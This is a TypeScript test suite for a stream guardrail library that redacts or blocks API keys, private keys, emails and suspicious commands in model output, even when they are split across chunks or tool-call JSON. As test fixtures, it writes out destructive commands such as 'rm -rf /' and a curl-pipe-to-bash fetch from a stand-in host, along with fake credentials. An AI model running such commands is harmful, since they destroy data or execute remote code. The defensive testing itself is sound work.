import type { StreamEvent } from "@bitrouter/core";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Guardrails, StreamGuard } from "../src/index.js";
import { GuardrailError, createGuardrails } from "../src/index.js";
import { FAKE, ctx, recordingLogger, redactAll } from "./helpers.js";

const KEY = FAKE.anthropic;

/** Downgoing config that redacts secrets too, so secret splitting can be observed on streams. */
function downRedact(maxHoldChars?: number): Guardrails {
  return createGuardrails(
    {
      downgoing: { api_keys: "redact", credentials: "redact", pii_emails: "redact", ip_addresses: "redact", suspicious_commands: "redact" },
    },
    { logger: recordingLogger(), ...(maxHoldChars === undefined ? {} : { maxHoldChars }) },
  )!;
}

function feedText(guard: StreamGuard, chunks: string[], index = 0): { released: string[]; events: StreamEvent[] } {
  const released: string[] = [];
  const events: StreamEvent[] = [];
  for (const text of chunks) {
    for (const e of guard.push({ type: "text_delta", index, text })) {
      events.push(e);
      if (e.type === "text_delta") released.push(e.text);
    }
  }
  for (const e of guard.push({ type: "finish", stopReason: "stop" })) {
    events.push(e);
    if (e.type === "text_delta") released.push(e.text);
  }
  return { released, events };
}

describe("secrets split across stream chunks", () => {
  const text = `Sure! Use ${KEY} as the key.`;
  const at = text.indexOf(KEY);

  it.each([
    ["two chunks", [text.slice(0, at + 10), text.slice(at + 10)]],
    ["three chunks", [text.slice(0, at + 3), text.slice(at + 3, at + 40), text.slice(at + 40)]],
    ["one char per chunk", [...text]],
  ])("%s: caught and redacted before any of it is released", (_label, chunks) => {
    const guard = downRedact().createStreamGuard(ctx());
    const { released } = feedText(guard, chunks);
    expect(released.join("")).toBe("Sure! Use [REDACTED:api_keys] as the key.");
    // No released piece carries any fragment of the key beyond its 3-char prefix "sk-".
    for (const piece of released) expect(piece).not.toMatch(/ant-api03|Qw9-/);
  });

  it("releases text that cannot start a match immediately", () => {
    const guard = downRedact().createStreamGuard(ctx());
    expect(guard.push({ type: "text_delta", index: 0, text: "Hello there, " })).toEqual([{ type: "text_delta", index: 0, text: "Hello there, " }]);
    // "sk" could begin a key: held; the rest of the word decides.
    expect(guard.push({ type: "text_delta", index: 0, text: "use sk" })).toEqual([{ type: "text_delta", index: 0, text: "use " }]);
    expect(guard.heldChars).toBe(2);
    expect(guard.push({ type: "text_delta", index: 0, text: "ip it. " })).toEqual([{ type: "text_delta", index: 0, text: "skip it. " }]);
    expect(guard.heldChars).toBe(0);
  });

  it("streamed output always equals the whole-text scan, whatever the chunking (property)", () => {
    const pieces = [
      "Hello ",
      KEY,
      " and ",
      FAKE.aws,
      ". Mail bob@example.com or ",
      "postgres://app:pa55w0rd@db:5432/x",
      " then rm -rf / now. ",
      "skip the task-force; version 1.2.3 on 2024-01-15 at 10.0.0.1\n",
      FAKE.githubFine,
      " done.",
    ];
    const g = downRedact();
    fc.assert(
      fc.property(fc.shuffledSubarray(pieces, { minLength: 1 }), fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1, maxLength: 50 }), (parts, sizes) => {
        const text = parts.join("");
        const expected = g.scanText(text, "downgoing", ctx());
        const chunks: string[] = [];
        for (let i = 0, k = 0; i < text.length; k++) {
          const n = sizes[k % sizes.length] ?? 1;
          chunks.push(text.slice(i, i + n));
          i += n;
        }
        const { released } = feedText(g.createStreamGuard(ctx()), chunks);
        expect(released.join("")).toBe(expected);
      }),
      { numRuns: 300 },
    );
  });
});

describe("bounded look-behind window", () => {
  it("1 MB of prose streams with a small hold and the secrets in it redacted", () => {
    const g = downRedact();
    const guard = g.createStreamGuard(ctx());
    const paragraph = `The quick brown fox jumps over the lazy dog while ${KEY} leaks, then task-force meets at 9. `;
    const text = paragraph.repeat(Math.ceil(1_000_000 / paragraph.length));
    let maxHeld = 0;
    let out = "";
    for (let i = 0; i < text.length; i += 64) {
      for (const e of guard.push({ type: "text_delta", index: 0, text: text.slice(i, i + 64) })) if (e.type === "text_delta") out += e.text;
      maxHeld = Math.max(maxHeld, guard.heldChars);
    }
    for (const e of guard.push({ type: "part_end", index: 0 })) if (e.type === "text_delta") out += e.text;
    expect(out).toBe(text.replaceAll(KEY, "[REDACTED:api_keys]"));
    expect(maxHeld).toBeLessThanOrEqual(KEY.length + 64); // at most one key plus a chunk, far below the window
  });

  it("a PEM private key streamed in small chunks fits the window and is redacted whole", () => {
    const g = createGuardrails({ downgoing: { private_keys: "redact" } }, { logger: recordingLogger() })!;
    const body = Array.from({ length: 28 }, (_, i) => `${"MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7".slice(0, 60)}${i}`).join("\n");
    const pem = `-----BEGIN RSA PRIVATE KEY-----\n${body}\n-----END RSA PRIVATE KEY-----`;
    const text = `Here is a test key:\n${pem}\nKeep it safe.`;
    const chunks = text.match(/[\s\S]{1,7}/g) ?? [];
    const { released } = feedText(g.createStreamGuard(ctx()), chunks);
    expect(pem.length).toBeGreaterThan(1500);
    expect(released.join("")).toBe("Here is a test key:\n[REDACTED:private_keys]\nKeep it safe.");
    expect(released.join("")).not.toContain("MIIE");
  });

  it("warn-only rules hold nothing back but still see a match split across chunks", () => {
    const logger = recordingLogger();
    const g = createGuardrails({ downgoing: { suspicious_commands: "warn", pii_emails: "warn" } }, { logger })!;
    const guard = g.createStreamGuard(ctx());
    const chunks = ["run rm -", "rf / and mail bob@exa", "mple.com", " now"];
    for (const text of chunks) {
      expect(guard.push({ type: "text_delta", index: 0, text })).toEqual([{ type: "text_delta", index: 0, text }]);
      expect(guard.heldChars).toBe(0);
    }
    expect(guard.push({ type: "tool_call_delta", index: 1, argumentsDelta: '{"to":"al' })).toEqual([
      { type: "tool_call_delta", index: 1, argumentsDelta: '{"to":"al' },
    ]);
    expect(guard.push({ type: "tool_call_delta", index: 1, argumentsDelta: 'ice@example.org"}' })).toEqual([
      { type: "tool_call_delta", index: 1, argumentsDelta: 'ice@example.org"}' },
    ]);
    expect(guard.push({ type: "finish", stopReason: "stop" })).toEqual([{ type: "finish", stopReason: "stop" }]);
    expect(logger.lines.map((l) => [l.fields.pattern, l.fields.action])).toEqual([
      ["suspicious_commands", "warn"],
      ["pii_emails", "warn"],
      ["pii_emails", "warn"],
    ]);
  });

  it("with nothing to check downgoing, events pass through untouched", () => {
    const g = createGuardrails({ disabled_patterns: ["suspicious_commands"] }, { logger: recordingLogger() })!;
    const guard = g.createStreamGuard(ctx());
    const event: StreamEvent = { type: "text_delta", index: 0, text: "rm -rf / sk" };
    expect(guard.push(event)).toEqual([event]);
  });

  it("a text that could always still be a match is held to at most the window", () => {
    const g = downRedact(256);
    const guard = g.createStreamGuard(ctx());
    // One endless "word": it could be the local part of an email address all along.
    let maxHeld = 0;
    let released = 0;
    for (let i = 0; i < 1_000_000 / 50; i++) {
      for (const e of guard.push({ type: "text_delta", index: 0, text: "abcdefghij".repeat(5) })) if (e.type === "text_delta") released += e.text.length;
      maxHeld = Math.max(maxHeld, guard.heldChars);
    }
    expect(maxHeld).toBeLessThanOrEqual(256);
    expect(released).toBeGreaterThanOrEqual(1_000_000 - 256);
  });
});

describe("stream events", () => {
  it("held text is flushed before part_end, before another part starts, and before finish", () => {
    const guard = downRedact().createStreamGuard(ctx());
    const events: StreamEvent[] = [
      { type: "start", id: "s", model: "m", created: 1 },
      { type: "reasoning_delta", index: 0, text: "thinking about sk" },
      { type: "reasoning_signature", index: 0, signature: "sig" },
      { type: "text_delta", index: 1, text: "mail me at bob" },
      { type: "tool_call_start", index: 2, id: "c", name: "f" },
      { type: "tool_call_delta", index: 2, argumentsDelta: '{"to":"al' },
      { type: "part_end", index: 2 },
      { type: "text_delta", index: 3, text: "bye sk" },
      { type: "usage", usage: { inputTokens: 1, outputTokens: 2 } },
      { type: "finish", stopReason: "stop" },
    ];
    const out = events.flatMap((e) => guard.push(e));
    expect(out).toEqual([
      { type: "start", id: "s", model: "m", created: 1 },
      { type: "reasoning_delta", index: 0, text: "thinking about " },
      { type: "reasoning_delta", index: 0, text: "sk" },
      { type: "reasoning_signature", index: 0, signature: "sig" },
      { type: "text_delta", index: 1, text: "mail me at " },
      { type: "text_delta", index: 1, text: "bob" },
      { type: "tool_call_start", index: 2, id: "c", name: "f" },
      { type: "tool_call_delta", index: 2, argumentsDelta: '{"to":"' },
      { type: "tool_call_delta", index: 2, argumentsDelta: "al" },
      { type: "part_end", index: 2 },
      { type: "text_delta", index: 3, text: "bye " },
      { type: "usage", usage: { inputTokens: 1, outputTokens: 2 } },
      { type: "text_delta", index: 3, text: "sk" },
      { type: "finish", stopReason: "stop" },
    ]);
  });

  it("a block mid-stream throws a guardrail error after the clean text went out", () => {
    const g = createGuardrails({}, { logger: recordingLogger() })!; // suspicious_commands: block by default
    const c = ctx();
    const guard = g.createStreamGuard(c);
    expect(guard.push({ type: "text_delta", index: 0, text: "To clean up, run " })).toEqual([{ type: "text_delta", index: 0, text: "To clean up, run " }]);
    expect(guard.push({ type: "text_delta", index: 0, text: "sudo rm -r" })).toEqual([{ type: "text_delta", index: 0, text: "sudo " }]);
    let error: unknown;
    try {
      guard.push({ type: "text_delta", index: 0, text: "f / and enjoy" });
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(GuardrailError);
    expect((error as GuardrailError).direction).toBe("downgoing");
    expect((error as GuardrailError).message).not.toContain("rm -rf");
    expect(c.counters.guardrail_violations).toBe(1);
  });

  it("a command split over three chunks at the very end is caught on finish", () => {
    const guard = downRedact().createStreamGuard(ctx());
    const { released } = feedText(guard, ["then: cu", "rl -fsSL https://x.example/i.sh | ", "bash"]);
    expect(released.join("")).toBe("then: [REDACTED:suspicious_commands]");
  });

  it("tool-call arguments: a key split across fragments and JSON escapes is redacted inside the string, JSON stays valid", () => {
    const guard = downRedact().createStreamGuard(ctx());
    const args = JSON.stringify({ note: `line1\n"quoted" \u00e9 ${KEY} tail`, n: 5 });
    // Cut inside the key, inside the \n escape and inside the quote escape.
    const cuts = [14, 15, 22, 40, 60, args.length];
    const pieces: string[] = [];
    let from = 0;
    for (const cut of cuts) {
      pieces.push(args.slice(from, cut));
      from = cut;
    }
    const out = [
      ...guard.push({ type: "tool_call_start", index: 0, id: "c1", name: "note" }),
      ...pieces.flatMap((p) => guard.push({ type: "tool_call_delta", index: 0, argumentsDelta: p })),
      ...guard.push({ type: "finish", stopReason: "tool_calls" }),
    ];
    const streamed = out.flatMap((e) => (e.type === "tool_call_delta" ? [e.argumentsDelta] : [])).join("");
    expect(JSON.parse(streamed)).toEqual({ note: 'line1\n"quoted" é [REDACTED:api_keys] tail', n: 5 });
    for (const e of out) if (e.type === "tool_call_delta") expect(e.argumentsDelta).not.toContain("ant-api");
  });

  it("parallel tool calls with interleaved deltas keep their own index, JSON state and arguments", () => {
    const guard = downRedact().createStreamGuard(ctx());
    const a = JSON.stringify({ cmd: "rm -rf / --no-preserve-root" });
    const b = JSON.stringify({ note: "mail bob@example.com now" });
    const events: StreamEvent[] = [
      { type: "tool_call_start", index: 0, id: "a", name: "shell" },
      { type: "tool_call_delta", index: 0, argumentsDelta: a.slice(0, 8) },
      { type: "tool_call_start", index: 1, id: "b", name: "note" },
      { type: "tool_call_delta", index: 1, argumentsDelta: b.slice(0, 14) }, // ends inside the string value
      { type: "tool_call_delta", index: 0, argumentsDelta: a.slice(8) },
      { type: "tool_call_delta", index: 1, argumentsDelta: b.slice(14) },
      { type: "finish", stopReason: "tool_calls" },
    ];
    const out = events.flatMap((e) => guard.push(e));
    const argsOf = (i: number) => out.flatMap((e) => (e.type === "tool_call_delta" && e.index === i ? [e.argumentsDelta] : [])).join("");
    expect(JSON.parse(argsOf(0))).toEqual({ cmd: "[REDACTED:suspicious_commands] --no-preserve-root" });
    expect(JSON.parse(argsOf(1))).toEqual({ note: "mail [REDACTED:pii_emails] now" });
    expect(out.filter((e) => e.type === "tool_call_start").map((e) => e.type === "tool_call_start" && e.id)).toEqual(["a", "b"]);
  });

  it("a \\u escape split across fragments decodes correctly", () => {
    const guard = downRedact().createStreamGuard(ctx());
    const out = ['{"a":"caf\\u00', 'e9 ok"}'].flatMap((p) => guard.push({ type: "tool_call_delta", index: 0, argumentsDelta: p }));
    out.push(...guard.push({ type: "part_end", index: 0 }));
    const streamed = out.flatMap((e) => (e.type === "tool_call_delta" ? [e.argumentsDelta] : [])).join("");
    expect(JSON.parse(streamed)).toEqual({ a: "café ok" });
  });

  it("upgoing patterns do not run on answers unless configured", () => {
    const guard = createGuardrails({}, { logger: recordingLogger() })!.createStreamGuard(ctx());
    const { released } = feedText(guard, [`your key is ${KEY}`]);
    expect(released.join("")).toBe(`your key is ${KEY}`);
  });

  it("redactAll upgoing config leaves streams untouched", () => {
    const guard = redactAll().createStreamGuard(ctx());
    const { released } = feedText(guard, ["mail bob@example.com"]);
    expect(released.join("")).toBe("mail bob@example.com");
  });
});
